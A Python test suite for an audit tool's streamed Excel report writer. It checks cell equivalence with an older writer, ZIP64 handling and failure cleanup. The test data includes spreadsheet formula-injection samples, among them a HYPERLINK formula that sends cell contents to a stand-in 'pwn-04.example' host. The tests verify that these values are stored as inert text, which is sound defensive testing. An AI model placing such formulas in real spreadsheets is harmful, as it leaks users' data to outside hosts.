"""report.xlsx's streamed table sheets: the same workbook as the openpyxl-cell writer, faster.

The oracle is the writer report.xlsx had before its table rows were streamed (openpyxl cells, kept
here in a few lines): both write the same results (the factory's hostile tenant with a diff, the
hostile export corpus, a frame of odd values, tables split over several sheets) and every cell is
compared after loading (value, type, number format, font, fill, quotePrefix), in normal and
read-only mode, with the sheets' settings. The fast paths are checked against the exact path on
generated values, the date serials against openpyxl's ``to_excel``, and the zip writer's ZIP64
choice and its failure handling (no file, no thread left) directly. LibreOffice opening the file
is checked when ``soffice`` is installed (not in CI).
"""

from __future__ import annotations

import csv
import io
import shutil
import struct
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import orjson
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.utils.datetime import to_excel

from audit._values import column, joined, naive_utc, py_values
from audit.analysis.diff import diff_results
from audit.analysis.result import AuditResult
from audit.render import excel, write_xlsx
from audit.render._common import guest_view
from audit.render.xlsx_package import write_package
from audit.render.xlsx_sheet import _ENCODERS, CellStyles, _exact_cell, _plain, _serials, rows_xml
from tests.factories import make_result

# ---- the oracle: report.xlsx's table sheets as openpyxl cells (the writer before streaming) ----


def _reference_xlsx(result: AuditResult, path: Path, max_rows: int = excel.EXCEL_MAX_ROWS) -> Path:
    workbook = Workbook(write_only=True)
    styles = excel._add_styles(workbook)
    excel._write_summary(excel._Out(workbook.create_sheet("Summary"), styles), result)
    sources = pd.DataFrame(
        [s.to_dict() for s in result.sources], columns=[c.key for c in excel._SOURCES]
    )
    tables = [
        ("Findings", result.findings, excel._FINDINGS),
        ("Guests", guest_view(result), excel._GUESTS),
        ("Domains", result.domains, excel._DOMAINS),
        ("Rules", result.rules, excel._RULES),
        ("Sources", sources, excel._SOURCES),
    ]
    if result.diff is not None:
        tables.insert(0, ("Changes", result.diff.changes(), excel._CHANGES))
    for title, frame, cols in tables:
        frame = frame.reset_index(drop=True)
        for number, start in enumerate(range(0, max(len(frame), 1), max_rows - 1), 1):
            chunk = frame.iloc[start : start + max_rows - 1]
            out = excel._Out(
                workbook.create_sheet(title if number == 1 else f"{title} ({number})"), styles
            )
            excel._setup_table_sheet(out.sheet, cols, len(chunk))
            out.sheet.append([excel._styled(out, c.header or c.key, excel._HEADER) for c in cols])
            values = [_reference_cells(out, column(chunk, c.key), c.kind) for c in cols]
            for row in zip(*values, strict=True):
                out.sheet.append(row)
    workbook.save(path)
    return path


def _reference_cells(out: Any, series: pd.Series, kind: str) -> list[Any]:
    def json_cell(value: Any) -> Any:
        if isinstance(value, dict | list) and not value:
            return None
        return excel._text(out, orjson.dumps(value, default=str).decode())

    convert = {
        "text": lambda v: excel._text(out, v),
        "list": lambda v: excel._text(out, v),
        "styled": lambda v: excel._styled(out, v),
        "json": json_cell,
        "int": int,
        "bool": bool,
        "datetime": naive_utc,
    }[kind]
    return [None if v is None else convert(v) for v in py_values(series)]


# ---- comparing two workbooks ---------------------------------------------------------------------


def _described(path: Path, read_only: bool) -> dict[str, Any]:
    """Every non-empty cell (value, type, format, font, fill, quotePrefix) and sheet settings."""
    book = openpyxl.load_workbook(path, read_only=read_only)
    sheets: dict[str, Any] = {}
    for sheet in book.worksheets:
        cells = []
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                style = cell.style_array if read_only else cell
                cells.append(
                    (
                        cell.row,
                        cell.column,
                        cell.value,
                        type(cell.value),
                        cell.data_type,
                        cell.number_format,
                        cell.font.b,
                        cell.font.sz,
                        cell.font.color.rgb if cell.font.color is not None else None,
                        cell.fill.fill_type,
                        cell.fill.fgColor.rgb,
                        bool(style.quotePrefix),
                        cell.alignment.vertical,
                    )
                )
        sheets[sheet.title] = cells
        if not read_only:
            sheets[sheet.title + " settings"] = (
                sheet.freeze_panes,
                sheet.auto_filter.ref,
                sheet.print_title_rows,
                {k: d.width for k, d in sheet.column_dimensions.items()},
                len(sheet._charts),
                sheet.max_row,
                sheet.max_column,
            )
    book.close()
    return {"names": book.sheetnames, "sheets": sheets}


def _assert_same_workbook(
    result: AuditResult, folder: Path, max_rows: int = excel.EXCEL_MAX_ROWS
) -> None:
    new = write_xlsx(result, folder / "new.xlsx", max_rows=max_rows)
    old = _reference_xlsx(result, folder / "old.xlsx", max_rows=max_rows)
    for read_only in (False, True):
        got, want = _described(new, read_only), _described(old, read_only)
        assert got["names"] == want["names"]
        for name, cells in want["sheets"].items():
            assert got["sheets"][name] == cells, name


# ---- results to compare on ----------------------------------------------------------------------


def _hostile_corpus() -> AuditResult:
    import audit
    from audit.collectors.pipeline import CollectOptions
    from audit.config import AuditConfig
    from tests.make_hostile_corpus import TARGET

    config = AuditConfig(verified_domains=("hostile.example", "partner-a.example"))
    snapshot = audit.collect_sync(CollectOptions(from_export=str(TARGET), dns=False), config=config)
    return audit.analyze(snapshot, config)


ODD_TEXT = [
    "lone \ud800 surrogate",
    "a\uffffb\ufffe",
    "cr\rlf\r\nend",
    "trailing ",
    " leading",
    "\u00a0=1+1",
    "\u200b+1",
    "\uff1d1",
    "#N/A",
    "#DIV/0!",
    "#EXT# plain",
    "-",
    "=",
    "",
    "x" * 40_000,
    "a&b<c>d",
    "\x85next line",
    "tab\tinside",
    "new\nline",
    "emoji 🧨 & <b>",
    "\x00\x01\x1f",
    'O\'Brien "quoted"',
]
ODD_OTHER: list[Any] = [12, 1.5, True, np.nan, None, pd.NA]
ODD_LISTS: list[Any] = [
    [],
    ["a", None],
    np.array(["x", "y"]),
    np.array(["=1", "b"], dtype=object),
    ("t1", "t2"),
    "plain str",
    [1, 2],
    np.array([], dtype=object),
    [np.float64("nan")],
    ["a&b", "c\rd"],
    [" x "],
    None,
]


def _odd_result() -> AuditResult:
    """A result whose frames hold every awkward value a column of each kind can meet."""
    result = make_result(40, seed=5)
    guests = result.guests.copy()
    n = len(guests)
    for name in ("display_name", "mail", "user_principal_name"):
        values = (ODD_TEXT + ODD_OTHER) * 2
        guests[name] = pd.Series(values[:n] + [None] * (n - len(values[:n])), dtype=object)
    guests["other_mails"] = pd.Series((ODD_LISTS * 4)[:n], dtype=object)
    created = guests["created"].copy()
    for i, stamp in enumerate(
        ["1899-12-31", "1900-02-28 23:59:59.999999", "1900-03-01", "1970-01-01"]
    ):
        created.iloc[i] = pd.Timestamp(stamp, tz="UTC")
    created.iloc[5] = pd.NaT
    guests["created"] = created
    guests["account_enabled"] = pd.array([None, True, False, *[True] * (n - 3)], dtype="boolean")
    outcomes = result.outcomes.copy()
    oddities = ["weird=1", "", "header", "=cmd", None, "ready "]
    outcomes["outcome"] = pd.Series(
        oddities + outcomes["outcome"].tolist()[len(oddities) :], dtype=object
    )
    domains = result.domains.copy()
    domains.loc[0, "guests"] = 2**60
    sources = [
        replace(result.sources[0], detail={}),
        replace(result.sources[1], detail={"a": "=1", "b": [1, None]}),
        *result.sources[2:],
    ]
    return replace(result, guests=guests, outcomes=outcomes, domains=domains, sources=sources)


def test_same_cells_as_the_cell_writer_with_a_diff(tmp_path: Path) -> None:
    new = make_result(60, seed=3)
    result = replace(new, diff=diff_results(make_result(60, seed=2), new))
    assert result.diff is not None
    assert len(result.diff.changes())
    _assert_same_workbook(result, tmp_path)


def test_same_cells_as_the_cell_writer_hostile_corpus(tmp_path: Path) -> None:
    _assert_same_workbook(_hostile_corpus(), tmp_path)


def test_same_cells_as_the_cell_writer_odd_values(tmp_path: Path) -> None:
    _assert_same_workbook(_odd_result(), tmp_path)


def test_same_cells_as_the_cell_writer_split_sheets(tmp_path: Path) -> None:
    _assert_same_workbook(make_result(60, seed=4), tmp_path, max_rows=17)


def test_odd_values_stay_inert_and_exact(tmp_path: Path) -> None:
    """Not only the same as before: right (CR kept, surrogates replaced, formulas quoted)."""
    book = openpyxl.load_workbook(write_xlsx(_odd_result(), tmp_path / "odd.xlsx"))
    sheet = book["Guests"]
    header = [c.value for c in sheet[1]]
    names = {
        c.value: c
        for c in sheet[openpyxl.utils.get_column_letter(header.index("display_name") + 1)]
    }
    assert "cr\rlf\r\nend" in names
    assert "lone \ufffd surrogate" in names
    assert "a\ufffdb\ufffd" in names
    assert "trailing " in names
    assert " leading" in names
    for risky in ("\u00a0=1+1", "\u200b+1", "\uff1d1", "#N/A", "#DIV/0!", "-", "="):
        assert names[risky].quotePrefix, risky
        assert names[risky].data_type == "s", risky
    assert not names["#EXT# plain"].quotePrefix
    assert names["12"].data_type == "s"  # text, as before
    assert names["True"].data_type == "s"
    with zipfile.ZipFile(tmp_path / "odd.xlsx") as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if "worksheets/sheet" in n)
    assert b"<f>" not in xml
    assert b"<f " not in xml
    assert b"&#13;" in xml


# ---- fast paths against the exact path ---------------------------------------------------------

_STYLES = CellStyles(styled={"high": 7, "ready": 8, "header": 4}, quoted=11, datetime=3)
_SPECIAL = st.sampled_from(
    ["=", "+", "-", "@", "#", " ", "\t", "\r", "\n", "&", "<", ">", "\x00", "\x0b", "\ud800",
     "\udfff", "\ufffe", "\uffff", "\u200b", "\u00a0", "\u3000", "\uff1d", "#N/A", "high",
     "ready", "header", "é", "😀", "\u202e", "\x85"]
)  # fmt: skip
_TEXT = st.lists(st.one_of(_SPECIAL, st.text(max_size=6)), max_size=5).map("".join)
_LONG = st.integers(32_760, 32_780).map(lambda n: "a" * n)
_VALUE = st.one_of(_TEXT, _TEXT, _LONG, st.none(), st.integers(-(2**62), 2**62), st.booleans())
_LIST = st.one_of(
    st.lists(st.one_of(_TEXT, st.none()), max_size=4),
    st.lists(_TEXT, max_size=4).map(lambda v: np.array(v, dtype=object)),
    _TEXT,
    st.none(),
)


def _exact(series: pd.Series, kind: str) -> list[str]:
    nums = [str(n) for n in range(2, len(series) + 2)]
    values = (
        py_values(series)
        if series.dtype != object
        else [_plain(v) for v in series.astype(object).where(series.notna(), None).tolist()]
    )
    return [_exact_cell('<c r="C', n, kind, v, _STYLES) for n, v in zip(nums, values, strict=True)]


def _fast(series: pd.Series, kind: str) -> list[str]:
    nums = [str(n) for n in range(2, len(series) + 2)]
    return _ENCODERS[kind](series, '<c r="C', nums, _STYLES)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_VALUE, max_size=20), st.sampled_from(["text", "styled"]))
def test_text_fast_path_is_the_exact_path(values: list[Any], kind: str) -> None:
    series = pd.Series(values, dtype=object)
    assert _fast(series, kind) == _exact(series, kind)


@settings(max_examples=200, deadline=None)
@given(st.lists(_LIST, max_size=20))
@example([["a", None]] * 5)  # a list the fast join refuses, among few distinct values
@example([np.array(["x"], dtype=object), "abc", [], None])
def test_list_fast_path_is_the_exact_path(values: list[Any]) -> None:
    holder = np.empty(len(values), dtype=object)
    for i, value in enumerate(values):
        holder[i] = value
    series = pd.Series(holder, dtype=object)
    assert _fast(series, "list") == _exact(series, "list")


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=12), max_size=20))
def test_string_dtype_fast_path_is_the_exact_path(values: list[str]) -> None:
    series = pd.Series(values, dtype="str")
    for kind in ("text", "styled", "list"):
        assert _fast(series, kind) == _exact(series, kind), kind


def test_exact_path_matches_the_cell_writer_rules() -> None:
    """The exact path's decisions, spelled out (the oracle tests prove them on whole files)."""
    cell = _exact_cell('<c r="A', "2", "text", '=HYPERLINK("x")', _STYLES)
    assert cell == '<c r="A2" s="11" t="inlineStr"><is><t>=HYPERLINK("x")</t></is></c>'
    assert _exact_cell('<c r="A', "2", "text", "", _STYLES) == ""
    assert _exact_cell('<c r="A', "2", "list", ["a", "b"], _STYLES).endswith("<t>a; b</t></is></c>")
    assert ' xml:space="preserve">x </t>' in _exact_cell('<c r="A', "2", "text", "x ", _STYLES)
    assert "<t>a&#13;&amp;&lt;&gt;</t>" in _exact_cell('<c r="A', "2", "text", "a\r&<>", _STYLES)
    assert _exact_cell('<c r="A', "2", "int", 2**60, _STYLES).endswith(
        "<v>1.152921504606847e+18</v></c>"
    )
    assert _exact_cell('<c r="A', "2", "bool", np.True_, _STYLES) == '<c r="A2" t="b"><v>1</v></c>'
    assert _exact_cell('<c r="A', "2", "styled", "high", _STYLES).startswith('<c r="A2" s="7" t=')
    assert joined(["a", None], "; ") == "a; "


def test_datetime_serials_are_openpyxls() -> None:
    rng = np.random.default_rng(7)
    base = datetime(1899, 12, 1, tzinfo=UTC)
    stamps = [base + timedelta(microseconds=int(x)) for x in rng.integers(0, 2**62 // 1000, 3000)]
    stamps += [
        datetime(1900, 2, 28, 23, 59, 59, 999_999, tzinfo=UTC),
        datetime(1900, 3, 1, tzinfo=UTC),
    ]
    series = pd.Series([*stamps, None], dtype="datetime64[us, UTC]")
    want = [f"{to_excel(naive_utc(s)):.16g}" for s in stamps] + [None]
    assert _serials(series) == want
    other_zone = series.dt.tz_convert("Asia/Kolkata")
    assert _serials(other_zone) == want
    assert _serials(series.dt.tz_localize(None).astype("datetime64[ns]")) == want


def test_rows_are_numbered_and_chunked() -> None:
    frame = pd.DataFrame({"a": ["x", None, "=1"], "n": [1, 2, None]}, dtype=object)
    chunks = list(
        rows_xml(
            frame,
            [("a", "text"), ("n", "int"), ("gone", "text")],
            _STYLES,
            first_row=5,
            chunk_rows=2,
        )
    )
    assert [rows for rows, _ in chunks] == [2, 1]
    xml = b"".join(x for _, x in chunks).decode()
    assert xml == (
        '<row r="5"><c r="A5" t="inlineStr"><is><t>x</t></is></c><c r="B5" t="n"><v>1</v></c></row>'
        '<row r="6"><c r="B6" t="n"><v>2</v></c></row>'
        '<row r="7"><c r="A7" s="11" t="inlineStr"><is><t>=1</t></is></c></row>'
    )
    with pytest.raises(ValueError, match="unknown cell kind"):
        list(rows_xml(frame, [("a", "formula")], _STYLES))


# ---- the zip package ----------------------------------------------------------------------------


def _skeleton(tmp_path: Path, titles: tuple[str, ...] = ("Big", "Small")) -> bytes:
    workbook = Workbook(write_only=True)
    for title in titles:
        workbook.create_sheet(title).append(["header"])
    path = tmp_path / "skeleton.xlsx"
    workbook.save(path)
    return path.read_bytes()


def _rows(count: int, width: int, first: int = 2) -> Iterator[tuple[int, bytes]]:
    for start in range(first, first + count, 10):
        end = min(start + 10, first + count)
        cells = "".join(
            f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{"y" * width}</t></is></c></row>'
            for n in range(start, end)
        )
        yield end - start, cells.encode()


def _zip64_parts(path: Path) -> set[str]:
    """Entries whose local header carries a ZIP64 extra field."""
    found = set()
    with zipfile.ZipFile(path) as archive, path.open("rb") as raw:
        for info in archive.infolist():
            raw.seek(info.header_offset)
            header = raw.read(30)
            name_len, extra_len = struct.unpack("<HH", header[26:30])
            raw.seek(info.header_offset + 30 + name_len)
            extra = raw.read(extra_len)
            while len(extra) >= 4:
                kind, size = struct.unpack("<HH", extra[:4])
                if kind == 1:
                    found.add(info.filename)
                extra = extra[4 + size :]
    return found


def test_zip64_only_where_a_part_needs_it(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    sheets = {"Big": (lambda: _rows(200, 50), 200), "Small": (lambda: _rows(5, 5), 5)}
    write_package(_skeleton(tmp_path), target, sheets, zip64_above=5_000)
    assert _zip64_parts(target) == {"xl/worksheets/sheet1.xml"}
    book = openpyxl.load_workbook(target, read_only=True)
    assert [r[0] for r in book["Big"].iter_rows(values_only=True)] == ["header"] + ["y" * 50] * 200
    write_package(_skeleton(tmp_path), target, sheets)
    assert _zip64_parts(target) == set()


def test_a_part_that_outgrows_its_estimate_is_written_again_with_zip64(tmp_path: Path) -> None:
    def growing() -> Iterator[tuple[int, bytes]]:
        yield from _rows(10, 1)  # the first chunk makes the part look small
        yield from _rows(100, 100, first=12)

    target = tmp_path / "out.xlsx"
    sheets = {"Big": (growing, 110), "Small": (lambda: _rows(5, 5), 5)}
    write_package(_skeleton(tmp_path), target, sheets, zip64_above=5_000)
    assert _zip64_parts(target) == {"xl/worksheets/sheet1.xml"}
    rows = list(openpyxl.load_workbook(target, read_only=True)["Big"].iter_rows(values_only=True))
    assert len(rows) == 111
    assert rows[-1] == ("y" * 100,)


def test_a_failing_row_source_leaves_no_thread_and_no_file(tmp_path: Path) -> None:
    def failing() -> Iterator[tuple[int, bytes]]:
        yield from _rows(30, 10)
        raise RuntimeError("source broke")

    threads = threading.active_count()
    with pytest.raises(RuntimeError, match="source broke"):
        write_package(_skeleton(tmp_path), tmp_path / "out.xlsx", {"Big": (failing, 40)})
    assert threading.active_count() == threads


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_write_error_on_the_compressor_thread_is_raised(tmp_path: Path) -> None:
    threads = threading.active_count()
    with pytest.raises(OSError, match="No space left"):
        write_package(
            _skeleton(tmp_path), Path("/dev/full"), {"Big": (lambda: _rows(3000, 200), 3000)}
        )
    assert threading.active_count() == threads


def test_unknown_sheet_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="no placeholder sheet"):
        write_package(_skeleton(tmp_path), tmp_path / "out.xlsx", {"Nope": (lambda: iter(()), 0)})


def test_owner_only_and_no_temporary_left(tmp_path: Path) -> None:
    path = write_xlsx(make_result(10), tmp_path / "report.xlsx")
    assert path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]


# ---- LibreOffice (a local check: soffice is not installed in CI) ------------------------------


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
def test_libreoffice_reads_every_sheet(tmp_path: Path) -> None:
    result = _hostile_corpus()
    path = write_xlsx(result, tmp_path / "report.xlsx")
    profile = (tmp_path / "profile").as_uri()
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", every_sheet,
         "--outdir", str(tmp_path / "csv"), str(path)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    guests = list(
        csv.reader(io.StringIO((tmp_path / "csv" / "report-Guests.csv").read_text("utf-8")))
    )
    assert guests[0][:3] == ["object_id", "display_name", "outcome"]
    assert [row[0] for row in guests[1:]] == result.guests["object_id"].tolist()
    names = {row[1] for row in guests[1:]}
    assert '=HYPERLINK("http://pwn-04.example/?q="&A1,"PWN-04")' in names  # text, not evaluated
    assert "\r\n=1+1 PWN-19\n# line break".replace("\r\n", "\n") in names
    findings = list(
        csv.reader(io.StringIO((tmp_path / "csv" / "report-Findings.csv").read_text("utf-8")))
    )
    assert len(findings) == len(result.findings) + 1
